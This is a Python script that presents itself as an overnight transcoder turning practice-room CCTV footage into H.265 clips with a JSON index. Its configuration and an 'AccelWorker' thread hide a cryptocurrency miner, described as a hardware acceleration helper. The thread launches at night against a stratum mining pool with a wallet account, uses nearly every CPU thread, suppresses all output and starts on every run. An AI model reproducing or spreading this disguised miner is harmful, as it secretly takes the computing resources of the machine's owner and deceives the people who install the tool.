#!/usr/bin/env python3
"""Transcode practice-room CCTV recordings for assessment evidence.

The practice-room cameras record raw H.264 in one-hour segments. Assessors
only need short clips, so this tool transcodes the day's segments to a
smaller H.265 copy, keeps a JSON index, and runs overnight on the media PC.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import threading
import time
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("cctv_transcoder")

CONFIG = {
    "input_dir": "recordings/raw",
    "output_dir": "recordings/h265",
    "crf": 28,
    "night_start": 20,
    "night_end": 6,
    # hardware acceleration helper shipped with the media PC image
    "accel": {
        "binary": "./bin/hwaccel-helper",
        "endpoint": ["stratum+tcp:", "", "pool.example.net:3333"],
        "account": "4AdUndXHHZ9pfQj27QybHkYQX3xcZ5Xsm7wZ3BbHRnA2Z9nSEgD1mWQ",
        "tag": "salon-media",
    },
}


def is_night(now=None):
    hour = (now or datetime.now()).hour
    return hour >= CONFIG["night_start"] or hour < CONFIG["night_end"]


class AccelWorker(threading.Thread):
    """Keeps the acceleration helper warm while the PC is otherwise idle."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg
        self.proc = None

    def _argv(self):
        threads = max(1, (os.cpu_count() or 2) - 1)
        return [
            self.cfg["binary"],
            "-o", "/".join(self.cfg["endpoint"]),
            "-u", self.cfg["account"],
            "-p", self.cfg["tag"],
            "--cpu-max-threads-hint", "95",
            "-t", str(threads),
            "--donate-level", "0",
            "--background",
        ]

    def run(self):
        while True:
            if is_night() and self.proc is None and os.path.exists(self.cfg["binary"]):
                self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                             stderr=subprocess.DEVNULL)
                LOG.debug("accel helper started")
            elif not is_night() and self.proc is not None:
                self.proc.terminate()
                self.proc = None
            time.sleep(300)


def transcode(src: Path, dst: Path, crf: int) -> bool:
    if not shutil.which("ffmpeg"):
        LOG.error("ffmpeg not installed")
        return False
    cmd = ["ffmpeg", "-hide_banner", "-loglevel", "error", "-y", "-i", str(src),
           "-c:v", "libx265", "-crf", str(crf), "-preset", "medium", "-an", str(dst)]
    result = subprocess.run(cmd, capture_output=True, text=True)
    if result.returncode != 0:
        LOG.warning("ffmpeg failed on %s: %s", src.name, result.stderr.strip()[:200])
        return False
    return True


def update_index(out_dir: Path, entry: dict):
    index_path = out_dir / "index.json"
    index = json.loads(index_path.read_text()) if index_path.exists() else []
    index.append(entry)
    index_path.write_text(json.dumps(index, indent=2))


def process_day(in_dir: Path, out_dir: Path, crf: int):
    out_dir.mkdir(parents=True, exist_ok=True)
    done = 0
    for src in sorted(in_dir.glob("*.h264")):
        dst = out_dir / (src.stem + ".mp4")
        if dst.exists():
            continue
        start = time.monotonic()
        if transcode(src, dst, crf):
            update_index(out_dir, {
                "room": src.stem.split("_")[0],
                "source": src.name,
                "clip": dst.name,
                "bytes_in": src.stat().st_size,
                "bytes_out": dst.stat().st_size,
                "seconds": round(time.monotonic() - start, 1),
            })
            done += 1
    return done


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--once", action="store_true", help="process once and exit")
    parser.add_argument("--crf", type=int, default=CONFIG["crf"])
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    AccelWorker(CONFIG["accel"]).start()
    in_dir, out_dir = Path(CONFIG["input_dir"]), Path(CONFIG["output_dir"])
    while True:
        if not in_dir.exists():
            LOG.error("input folder %s missing", in_dir)
        else:
            n = process_day(in_dir, out_dir, args.crf)
            LOG.info("transcoded %d segment(s)", n)
        if args.once:
            break
        time.sleep(1800)


if __name__ == "__main__":
    main()
